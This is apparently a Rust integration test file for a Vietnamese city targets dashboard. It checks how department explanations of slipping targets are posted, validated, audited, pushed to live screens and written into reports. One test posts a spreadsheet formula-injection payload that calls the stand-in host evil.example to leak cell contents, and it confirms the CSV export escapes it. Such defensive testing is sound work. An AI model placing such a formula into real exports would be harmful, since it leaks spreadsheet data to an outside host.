//! Explanations of targets (giải trình): posted by the owning department, read by anyone, kept
//! in history, audited, refused with a problem naming the field, carried to the screens at once
//! (and to other instances), and in the period report.

use std::path::PathBuf;
use std::time::Duration;

use chrono::{Datelike, Utc};
use futures::SinkExt;
use ktxh::auth::Role;
use serde_json::{json, Value};
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tokio_tungstenite::tungstenite::Message;

use crate::helpers::{assert_problem, mint_token, spawn_app, Backend, Reply, TestApp};
use crate::live::{next_json, Socket};
use crate::on_every_backend;
use crate::workbook::{fetch, xlsx_sheet};

const EXPORTS: &str = "EXPORT_TURNOVER";

fn this_year() -> i32 {
    Utc::now()
        .with_timezone(&chrono_tz::Asia::Ho_Chi_Minh)
        .year()
}

fn path(year: i32, indicator: &str) -> String {
    format!("/api/v1/targets/{year}/{indicator}/explanations")
}

async fn post(app: &TestApp, token: &str, path: &str, body: &Value) -> Reply {
    app.send(app.client.post(app.url(path)).bearer_auth(token).json(body))
        .await
}

fn first_explanation() -> Value {
    json!({
        "text": "Kim ngạch xuất khẩu giảm do đơn hàng dệt may, da giày sụt giảm.",
        "actions": [
            {"text": "Làm việc với 20 doanh nghiệp xuất khẩu lớn", "due": "2026-12-15"},
            {"text": "Mở rộng thị trường EU theo EVFTA", "due": "2027-03-31"}
        ]
    })
}

/// A screen subscribed to `topic`, past its snapshot.
async fn screen(app: &TestApp, addr: std::net::SocketAddr, topic: &str) -> Socket {
    let mut request = format!("ws://{addr}/ws")
        .into_client_request()
        .expect("request");
    request.headers_mut().insert(
        "authorization",
        format!("Bearer {}", app.viewer).parse().expect("header"),
    );
    let (mut socket, _) = tokio_tungstenite::connect_async(request)
        .await
        .expect("websocket opens");
    let welcome = next_json(&mut socket).await;
    assert_eq!(welcome["type"], "welcome", "{welcome}");
    socket
        .send(Message::text(json!({ "subscribe": [topic] }).to_string()))
        .await
        .expect("sent");
    let snapshot = next_json(&mut socket).await;
    assert_eq!(snapshot["type"], "snapshot", "{snapshot}");
    socket
}

/// Waits for a delta whose view of `indicator` in `unit` carries an explanation with `text`.
async fn delta_explaining(socket: &mut Socket, indicator: &str, unit: &str, text: &str) -> Value {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    loop {
        assert!(
            tokio::time::Instant::now() < deadline,
            "a delta with the explanation of {indicator} in time"
        );
        let message = next_json(socket).await;
        if message["type"] != "delta" {
            continue;
        }
        let found = message["data"]["targets"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|view| {
                view["indicator"] == indicator
                    && view["unit"] == unit
                    && view["explanation"]["text"] == text
            });
        if let Some(view) = found {
            return view.clone();
        }
    }
}

async fn posted_read_superseded_and_kept_in_history(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let year = this_year();
    let mut on_screen = screen(&app, app.addr, &format!("indicator:{EXPORTS}")).await;

    let reply = app.get(&path(year, EXPORTS), &app.viewer).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.body["current"], Value::Null, "{reply:?}");
    assert_eq!(reply.body["history"], json!([]));
    let none = app
        .get(&format!("{}/current", path(year, EXPORTS)), &app.viewer)
        .await;
    assert_problem(&none, 404, "not_found");

    let first = first_explanation();
    let reply = post(&app, &app.customs, &path(year, EXPORTS), &first).await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let stored = reply.body.clone();
    assert_eq!(stored["year"], year);
    assert_eq!(stored["indicator"], EXPORTS);
    assert_eq!(stored["unit"], "HCM", "the city when no unit is named");
    assert_eq!(stored["text"], first["text"]);
    assert_eq!(stored["actions"], first["actions"], "{stored}");
    assert_eq!(stored["author"], "test-department");
    assert_eq!(stored["department"], "CUSTOMS");

    // The screens have it at once, in the target's view.
    let view = delta_explaining(
        &mut on_screen,
        EXPORTS,
        "HCM",
        first["text"].as_str().unwrap(),
    )
    .await;
    assert_eq!(view["explanation"]["actions"][1]["due"], "2027-03-31");

    // A later one, with an action done, supersedes it; the first stays in the history.
    let second = json!({
        "text": "Đã có đơn hàng quý IV; dự kiến bù đắp một phần.",
        "actions": [{"text": "Làm việc với 20 doanh nghiệp xuất khẩu lớn", "due": "2026-12-15", "done": "2026-12-01"}],
        "unit": "HCM"
    });
    let reply = post(
        &app,
        &app.customs,
        &format!("{}?unit=HCM", path(year, EXPORTS)),
        &second,
    )
    .await;
    assert_eq!(reply.status, 201, "{reply:?}");
    delta_explaining(
        &mut on_screen,
        EXPORTS,
        "HCM",
        second["text"].as_str().unwrap(),
    )
    .await;

    let reply = app.get(&path(year, EXPORTS), &app.viewer).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(reply.body["current"]["text"], second["text"]);
    assert_eq!(reply.body["current"]["actions"][0]["done"], "2026-12-01");
    let history: Vec<&Value> = reply.body["history"]
        .as_array()
        .expect("history")
        .iter()
        .collect();
    assert_eq!(history.len(), 2, "{reply:?}");
    assert_eq!(history[0]["text"], second["text"]);
    assert_eq!(history[1], &stored, "the first one as it was stored");
    let current = app
        .get(
            &format!("{}/current?unit=HCM", path(year, EXPORTS)),
            &app.viewer,
        )
        .await;
    assert_eq!(current.status, 200, "{current:?}");
    assert_eq!(current.body, reply.body["current"]);

    // A restarted service shows the current one on the screens from the start.
    let app = app.pause().await.resume(|_| {}).await;
    let mut socket = {
        let mut request = format!("ws://{}/ws", app.addr)
            .into_client_request()
            .expect("request");
        request.headers_mut().insert(
            "authorization",
            format!("Bearer {}", app.viewer).parse().expect("header"),
        );
        tokio_tungstenite::connect_async(request)
            .await
            .expect("websocket opens")
            .0
    };
    next_json(&mut socket).await;
    socket
        .send(Message::text(
            json!({ "subscribe": ["overview"] }).to_string(),
        ))
        .await
        .expect("sent");
    let snapshot = next_json(&mut socket).await;
    let exports = snapshot["data"]["targets"]
        .as_array()
        .expect("targets")
        .iter()
        .find(|view| view["indicator"] == EXPORTS)
        .cloned()
        .expect("the export target");
    assert_eq!(exports["explanation"]["text"], second["text"], "{exports}");

    // Each is an audit row: who, on what target, what was said and what it replaced.
    let audit = app.get("/api/v1/audit?limit=10", &app.admin).await;
    assert_eq!(audit.status, 200, "{audit:?}");
    let rows: Vec<&Value> = audit.body["entries"]
        .as_array()
        .expect("entries")
        .iter()
        .filter(|e| e["action"] == "explanation.add")
        .collect();
    assert_eq!(rows.len(), 2, "{audit:?}");
    let subject = format!("{year}/{EXPORTS}/HCM");
    assert_eq!(rows[0]["subject"], subject.as_str());
    assert_eq!(rows[0]["actor"], "department:CUSTOMS:test-department");
    assert_eq!(rows[0]["new"]["text"], second["text"]);
    assert_eq!(rows[0]["old"]["text"], first["text"]);
    assert_eq!(rows[1]["old"], Value::Null, "the first replaced nothing");
    assert!(rows[0]["client_ip"].as_str().is_some(), "{:?}", rows[0]);
    app.stop().await;
}

async fn only_the_owning_department_or_an_admin_explains(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let year = this_year();
    let body = first_explanation();
    let finance = post(&app, &app.finance, &path(year, EXPORTS), &body).await;
    assert_problem(&finance, 403, "forbidden");
    assert!(
        finance.body["detail"]
            .as_str()
            .unwrap_or_default()
            .contains("CUSTOMS"),
        "{finance:?}"
    );
    let viewer = post(&app, &app.viewer, &path(year, EXPORTS), &body).await;
    assert_problem(&viewer, 403, "forbidden");
    let anonymous = app
        .send(app.client.post(app.url(&path(year, EXPORTS))).json(&body))
        .await;
    assert_problem(&anonymous, 401, "missing_token");
    // Refused before the body is read: a refused caller learns nothing of the validation.
    let finance_bad = post(
        &app,
        &app.finance,
        &path(year, EXPORTS),
        &json!({"text": ""}),
    )
    .await;
    assert_problem(&finance_bad, 403, "forbidden");
    let reply = app.get(&path(year, EXPORTS), &app.viewer).await;
    assert_eq!(
        reply.body["history"],
        json!([]),
        "nothing stored: {reply:?}"
    );

    let (_, health) = mint_token(&app.store, Role::Department, Some("HEALTH")).await;
    let own = post(&app, &health, &path(year, "HOSPITAL_BEDS_PER_10K"), &body).await;
    assert_eq!(own.status, 201, "{own:?}");
    assert_eq!(own.body["department"], "HEALTH");
    let admin = post(&app, &app.admin, &path(year, EXPORTS), &body).await;
    assert_eq!(admin.status, 201, "{admin:?}");
    assert_eq!(
        admin.body["department"], "CUSTOMS",
        "the owner, whoever wrote it"
    );
    app.stop().await;
}

async fn bad_explanations_are_refused_naming_the_field(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let year = this_year();
    let url = path(year, EXPORTS);
    let tomorrow = (Utc::now().with_timezone(&chrono_tz::Asia::Ho_Chi_Minh)
        + chrono::Duration::days(1))
    .format("%Y-%m-%d")
    .to_string();
    let action = |due: &str| json!({"text": "Làm việc với doanh nghiệp", "due": due});
    let many: Vec<Value> = (0..21).map(|_| action("2026-12-01")).collect();
    let cases: Vec<(Value, &str)> = vec![
        (json!({"actions": []}), "/text"),
        (json!({"text": "   "}), "/text"),
        (json!({"text": "x".repeat(4001)}), "/text"),
        (json!({"text": "có ký tự \u{0} NUL"}), "/text"),
        (json!({"text": 7}), "/text"),
        (
            json!({"text": "ok", "actions": [action("2026-02-30")]}),
            "/actions/0/due",
        ),
        (
            json!({"text": "ok", "actions": [action("15/12/2026")]}),
            "/actions/0/due",
        ),
        (
            json!({"text": "ok", "actions": [action("2026-12-01"), {"text": "thiếu hạn"}]}),
            "/actions/1/due",
        ),
        (
            json!({"text": "ok", "actions": [{"text": "", "due": "2026-12-01"}]}),
            "/actions/0/text",
        ),
        (
            json!({"text": "ok", "actions": [{"text": "y".repeat(501), "due": "2026-12-01"}]}),
            "/actions/0/text",
        ),
        (
            json!({"text": "ok", "actions": [{"text": "xong sớm", "due": "2026-12-01", "done": tomorrow}]}),
            "/actions/0/done",
        ),
        (json!({"text": "ok", "actions": many}), "/actions"),
        (json!({"text": "ok", "unit": "ATLANTIS"}), "/unit"),
        (json!({"text": "ok", "colour": "red"}), ""),
    ];
    for (body, pointer) in cases {
        let reply = post(&app, &app.customs, &url, &body).await;
        assert_problem(&reply, 422, "invalid_field");
        let named = reply.body["errors"][0]["pointer"]
            .as_str()
            .unwrap_or_default();
        if pointer.is_empty() {
            assert!(
                reply.body["detail"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("colour"),
                "the unknown field is named: {reply:?}"
            );
        } else {
            assert_eq!(named, pointer, "{body}: {reply:?}");
        }
    }
    let both = post(
        &app,
        &app.customs,
        &format!("{url}?unit=HCM"),
        &json!({"text": "ok", "unit": "Q1"}),
    )
    .await;
    assert_problem(&both, 422, "invalid_field");
    assert_eq!(both.body["errors"][0]["pointer"], "/unit");

    let malformed = app
        .send(
            app.client
                .post(app.url(&url))
                .bearer_auth(&app.customs)
                .header("content-type", "application/json")
                .body(r#"{"text": "#),
        )
        .await;
    assert_problem(&malformed, 400, "malformed_json");
    let plain = app
        .send(
            app.client
                .post(app.url(&url))
                .bearer_auth(&app.customs)
                .header("content-type", "text/plain")
                .body("giải trình"),
        )
        .await;
    assert_problem(&plain, 415, "unsupported_media_type");
    let bad_year = post(
        &app,
        &app.customs,
        &path(0, EXPORTS).replace("/0/", "/20x6/"),
        &first_explanation(),
    )
    .await;
    assert_problem(&bad_year, 422, "invalid_field");
    assert_eq!(bad_year.body["errors"][0]["pointer"], "year");
    let unknown = post(
        &app,
        &app.customs,
        &path(year, "NO_SUCH_INDICATOR"),
        &first_explanation(),
    )
    .await;
    assert_problem(&unknown, 404, "not_found");
    // A year without a target for the indicator: nothing to explain.
    let untargeted = post(
        &app,
        &app.customs,
        &path(2031, EXPORTS),
        &first_explanation(),
    )
    .await;
    assert_problem(&untargeted, 404, "not_found");
    let unknown_unit = app.get(&format!("{url}?unit=ATLANTIS"), &app.viewer).await;
    assert_problem(&unknown_unit, 422, "invalid_field");

    let reply = app.get(&url, &app.viewer).await;
    assert_eq!(
        reply.body["history"],
        json!([]),
        "nothing stored: {reply:?}"
    );
    app.stop().await;
}

/// The cells of the columns `names` in `indicator`'s row of the English CSV report of `year`,
/// every figure as known.
async fn csv_cells<const N: usize>(
    app: &TestApp,
    year: i32,
    indicator: &str,
    names: [&str; N],
) -> [String; N] {
    let csv = String::from_utf8(
        fetch(
            app,
            &format!("/api/v1/reports/{year}?format=csv&lang=en&history=latest"),
        )
        .await,
    )
    .expect("UTF-8");
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let record = reader
        .records()
        .map(|r| r.expect("record"))
        .find(|r| &r[1] == indicator)
        .unwrap_or_else(|| panic!("the {indicator} row"));
    names.map(|name| {
        let at = headers.iter().position(|h| h == name).expect(name);
        record[at].to_owned()
    })
}

async fn the_report_carries_each_slipping_targets_explanation(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let year = this_year();
    // Half the year's target of hospital beds: the target slips at once. The report reads every
    // figure as known (`history=latest`), as the screens do, since this one is not official.
    let beds = "HOSPITAL_BEDS_PER_10K";
    let body = json!({"observations": [{
        "indicator": beds, "unit": "HCM", "period": year.to_string(), "value": 18.75
    }]});
    let reply = app.post_observations(&app.admin, &body).await;
    assert_eq!(reply.status, 200, "{reply:?}");
    let status = app
        .get(&format!("/api/v1/status/{beds}?year={year}"), &app.viewer)
        .await;
    assert!(
        ["at_risk", "off_track", "missed"]
            .contains(&status.body["status"].as_str().unwrap_or_default()),
        "{status:?}"
    );
    let (_, health) = mint_token(&app.store, Role::Department, Some("HEALTH")).await;
    let text = "Nhiều bệnh viện mới chưa đưa vào hoạt động do chậm bàn giao thiết bị.";
    let explained = json!({
        "text": text,
        "actions": [{"text": "Đưa Bệnh viện Ung bướu cơ sở 2 vào hoạt động", "due": "2026-12-20"}]
    });
    let reply = post(&app, &health, &path(year, beds), &explained).await;
    assert_eq!(reply.status, 201, "{reply:?}");

    let xlsx = fetch(
        &app,
        &format!("/api/v1/reports/{year}?format=xlsx&lang=vi&history=latest"),
    )
    .await;
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("target/test-artefacts");
    std::fs::create_dir_all(&dir).expect("artefact directory");
    let file = dir.join(format!("report-explanations-{backend:?}.xlsx"));
    std::fs::write(&file, &xlsx).expect("write the workbook");
    if let Some(rows) = xlsx_sheet(&file, "Giải trình") {
        let header = rows
            .iter()
            .position(|row| row.iter().any(|cell| cell == "Mã"))
            .expect("a header row");
        let column = |name: &str| {
            rows[header]
                .iter()
                .position(|cell| cell == name)
                .unwrap_or_else(|| panic!("a column {name}: {:?}", rows[header]))
        };
        let row = rows
            .iter()
            .find(|row| row[column("Mã")] == beds)
            .unwrap_or_else(|| panic!("a row for {beds}: {rows:?}"));
        assert_eq!(row[column("Giải trình")], text, "{row:?}");
        assert_eq!(
            row[column("Giải pháp")],
            "• Đưa Bệnh viện Ung bướu cơ sở 2 vào hoạt động (hạn 20/12/2026)",
            "{row:?}"
        );
        assert_eq!(row[column("Người gửi")], "test-department");
    }

    let [explanation, actions] = csv_cells(&app, year, beds, ["Explanation", "Actions"]).await;
    assert_eq!(explanation, text);
    assert_eq!(
        actions,
        "• Đưa Bệnh viện Ung bướu cơ sở 2 vào hoạt động (due 2026-12-20)"
    );

    let html =
        String::from_utf8(fetch(&app, &format!("/api/v1/reports/{year}?history=latest")).await)
            .expect("UTF-8");
    let start = html
        .find(&format!(
            r#"<tr data-explained="{beds}" data-has-explanation="true">"#
        ))
        .expect("the explained row in the page");
    let row = &html[start..start + html[start..].find("</tr>").expect("end of row")];
    assert!(
        row.contains(text) && row.contains("(hạn 20/12/2026)"),
        "{row}"
    );

    // Text that a spreadsheet would run as a formula is written to the CSV as text.
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")"#;
    let reply = post(
        &app,
        &health,
        &path(year, beds),
        &json!({ "text": formula }),
    )
    .await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let [explanation] = csv_cells(&app, year, beds, ["Explanation"]).await;
    assert_eq!(explanation, format!("'{formula}"));
    app.stop().await;
}

/// Several instances on one PostgreSQL (ARCHITECTURE §7): an explanation posted to one reaches
/// the screens of another through the commits table.
async fn an_explanation_posted_to_one_instance_reaches_the_screens_of_another(backend: Backend) {
    if backend == Backend::Sqlite {
        return; // one instance per SQLite file
    }
    let Some(a) = spawn_app(backend).await else {
        return;
    };
    let mut settings =
        ktxh::config::Settings::load(&crate::helpers::repo_config(), std::iter::empty())
            .expect("settings");
    settings.server.listen = "127.0.0.1:0".parse().expect("addr");
    let catalogue =
        ktxh::config::load_catalogue(&crate::helpers::repo_config()).expect("catalogue");
    let store = ktxh::app::open_store(a.database_url(), &settings, &catalogue)
        .await
        .expect("store");
    let alerting = ktxh::alerts::routing::AlertingConfig::load(&crate::helpers::repo_config())
        .expect("alerting config");
    let b = ktxh::app::App::from_parts(
        settings,
        crate::helpers::shipped_feeds(),
        catalogue,
        store,
        alerting,
        false,
    )
    .await
    .expect("build app");
    let b_addr = b.local_addr().expect("bound");
    let shutdown = tokio_util::sync::CancellationToken::new();
    let server = tokio::spawn(b.run(shutdown.clone()));

    let mut on_b = screen(&a, b_addr, &format!("indicator:{EXPORTS}")).await;
    let body = first_explanation();
    let reply = post(&a, &a.customs, &path(this_year(), EXPORTS), &body).await;
    assert_eq!(reply.status, 201, "{reply:?}");
    let view = delta_explaining(&mut on_b, EXPORTS, "HCM", body["text"].as_str().unwrap()).await;
    assert_eq!(view["explanation"]["id"], reply.body["id"]);
    // And B answers with it as any instance does.
    let on_b_api = a
        .client
        .get(format!("http://{b_addr}{}", path(this_year(), EXPORTS)))
        .bearer_auth(&a.viewer)
        .send()
        .await
        .expect("B answers");
    let listed: Value = on_b_api.json().await.expect("JSON");
    assert_eq!(listed["current"]["id"], reply.body["id"]);
    shutdown.cancel();
    let _ = server.await;
    a.stop().await;
}

on_every_backend!(
    an_explanation_posted_to_one_instance_reaches_the_screens_of_another,
    posted_read_superseded_and_kept_in_history,
    only_the_owning_department_or_an_admin_explains,
    bad_explanations_are_refused_naming_the_field,
    the_report_carries_each_slipping_targets_explanation,
);
